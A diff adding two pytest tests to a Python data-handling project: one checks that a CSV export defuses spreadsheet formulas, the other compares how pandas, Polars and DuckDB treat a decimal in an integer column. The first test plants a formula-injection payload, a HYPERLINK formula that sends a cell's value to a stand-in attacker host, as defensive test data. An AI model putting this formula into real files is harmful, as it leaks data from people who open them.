@@ -116,3 +116,24 @@ def test_csv_for_people_starts_with_a_bom(sales_csv: Path, tmp_path: Path) -> No
     raw = target.read_bytes()
     assert raw.startswith(b"\xef\xbb\xbforder_id,")
     assert b",02134,books,2026-01-05,1250" in raw
+
+
+def test_csv_for_people_turns_a_formula_into_text(sales_csv: Path, tmp_path: Path) -> None:
+    sales = frames_pandas.read_sales(sales_csv)
+    sales.loc[0, "category"] = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+    target = tmp_path / "report.csv"
+    frames_files.write_csv_for_people(sales, target)
+    rows = target.read_text(encoding="utf-8-sig").splitlines()
+    assert rows[1].startswith("A-001,02134,\"'=HYPERLINK(")  # shown as text, not run
+    assert rows[2] == "A-002,10001,games,2026-01-17,4999"  # other cells untouched
+
+
+def test_duckdb_rounds_a_decimal_in_an_integer_column(sales_csv: Path, tmp_path: Path) -> None:
+    path = tmp_path / "pounds.csv"
+    path.write_text(SALES_CSV.replace(",4999\n", ",49.99\n"), encoding="utf-8")
+    with pytest.raises(ValueError, match="cannot safely convert"):
+        frames_pandas.read_sales(path)
+    with pytest.raises(pl.exceptions.ComputeError, match="49.99"):
+        frames_polars.monthly_totals(path)
+    # DuckDB 2.0's CSV reader casts leniently (duckdb/duckdb#25824): 49.99 becomes 50, no error.
+    assert ("2026-01", "games", 50) in frames_duckdb.monthly_totals(path)
